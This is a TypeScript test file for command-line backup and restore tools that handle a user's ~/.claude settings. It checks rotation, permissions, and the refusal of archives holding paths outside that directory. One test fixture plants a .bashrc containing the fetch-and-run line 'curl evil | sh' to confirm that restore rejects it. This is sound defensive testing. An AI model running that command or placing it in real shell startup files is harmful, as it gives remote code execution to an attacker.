/** claude-backup / claude-restore, run as a throw-away unprivileged user with its own HOME. */
import * as fs from "fs";
import * as path from "path";
import { guestDir, run, tempDir } from "./guest";

const bin = path.join(guestDir, "usr/local/bin");
const nobody = 65534;

function home(): string {
    const h = tempDir("cc-backup-home-");
    fs.mkdirSync(path.join(h, ".claude", "projects", "-home-agent-code"), { recursive: true });
    fs.writeFileSync(path.join(h, ".claude", "settings.json"), '{"v":1}\n');
    fs.writeFileSync(path.join(h, ".claude", "projects", "-home-agent-code", "s.jsonl"), "{}\n");
    fs.writeFileSync(path.join(h, ".claude.json"), '{"state":1}\n');
    run("chown", ["-R", `${nobody}:${nobody}`, h]);
    return h;
}

function as(h: string, cmd: string, ...args: string[]) {
    return run("setpriv", [`--reuid=${nobody}`, `--regid=${nobody}`, "--clear-groups", "env", `HOME=${h}`, `PATH=${bin}:/usr/bin:/bin`, cmd, ...args]);
}

const backups = (h: string) => fs.readdirSync(path.join(h, ".claude-backups")).filter((f) => f.endsWith(".tar.gz")).sort();

test("keeps the newest N backups, private to their owner", () => {
    const h = home();
    for (let i = 0; i < 7; i++) expect(as(h, "claude-backup", "--keep", "3").status).toBe(0);
    const kept = backups(h);
    expect(kept).toHaveLength(3);
    expect(kept.every((f) => /^claude-\d{8}T\d{6}\.\d{3}Z\.tar\.gz$/.test(f))).toBe(true);
    expect(fs.statSync(path.join(h, ".claude-backups")).mode & 0o777).toBe(0o700);
    expect(fs.statSync(path.join(h, ".claude-backups", kept[0])).mode & 0o777).toBe(0o600);
    expect(as(h, "claude-restore", "--list").stdout.trim().split("\n")).toEqual(kept.map((f) => f.replace(/\.tar\.gz$/, "")));
});

test("restores the newest backup, and saves the current state first", () => {
    const h = home();
    expect(as(h, "claude-backup").status).toBe(0);
    fs.writeFileSync(path.join(h, ".claude", "settings.json"), '{"v":2}\n');
    fs.writeFileSync(path.join(h, ".claude", "stray"), "x");
    fs.writeFileSync(path.join(h, ".claude.json"), '{"state":2}\n');
    const r = as(h, "claude-restore");
    expect(r.status).toBe(0);
    expect(fs.readFileSync(path.join(h, ".claude", "settings.json"), "utf8")).toBe('{"v":1}\n');
    expect(fs.readFileSync(path.join(h, ".claude.json"), "utf8")).toBe('{"state":1}\n');
    expect(fs.existsSync(path.join(h, ".claude", "stray"))).toBe(false);
    expect(fs.existsSync(path.join(h, ".claude", "projects", "-home-agent-code", "s.jsonl"))).toBe(true);
    // The pre-restore state is itself a backup now: restoring the newest again undoes the restore.
    expect(backups(h)).toHaveLength(2);
    expect(as(h, "claude-restore").status).toBe(0);
    expect(fs.readFileSync(path.join(h, ".claude", "settings.json"), "utf8")).toBe('{"v":2}\n');
});

test("restores a backup by name", () => {
    const h = home();
    expect(as(h, "claude-backup").status).toBe(0);
    const first = backups(h)[0].replace(/\.tar\.gz$/, "");
    fs.writeFileSync(path.join(h, ".claude", "settings.json"), '{"v":2}\n');
    expect(as(h, "claude-backup").status).toBe(0);
    expect(as(h, "claude-restore", first).status).toBe(0);
    expect(fs.readFileSync(path.join(h, ".claude", "settings.json"), "utf8")).toBe('{"v":1}\n');
});

test("refuses an archive with paths outside ~/.claude, and changes nothing", () => {
    const h = home();
    const evil = tempDir("cc-evil-");
    fs.mkdirSync(path.join(evil, ".claude"));
    fs.writeFileSync(path.join(evil, ".bashrc"), "curl evil | sh\n");
    fs.writeFileSync(path.join(evil, ".claude", "x"), "x");
    fs.mkdirSync(path.join(h, ".claude-backups"), { mode: 0o700 });
    const archive = path.join(h, ".claude-backups", "claude-20990101T000000.000Z.tar.gz");
    expect(run("tar", ["-C", evil, "-czf", archive, ".claude", ".bashrc"]).status).toBe(0);
    run("chown", ["-R", `${nobody}:${nobody}`, path.join(h, ".claude-backups")]);
    const r = as(h, "claude-restore");
    expect(r.status).not.toBe(0);
    expect(r.stderr).toMatch(/unexpected entry '\.bashrc'/);
    expect(fs.existsSync(path.join(h, ".bashrc"))).toBe(false);
    expect(fs.readFileSync(path.join(h, ".claude", "settings.json"), "utf8")).toBe('{"v":1}\n');
});

test("says so when there is nothing to back up or restore", () => {
    const h = tempDir("cc-backup-empty-");
    run("chown", [`${nobody}:${nobody}`, h]);
    expect(as(h, "claude-backup").stderr).toMatch(/nothing to back up/);
    expect(as(h, "claude-restore").stderr).toMatch(/no backups/);
    expect(as(h, "claude-backup", "--keep", "0").status).toBe(2);
});
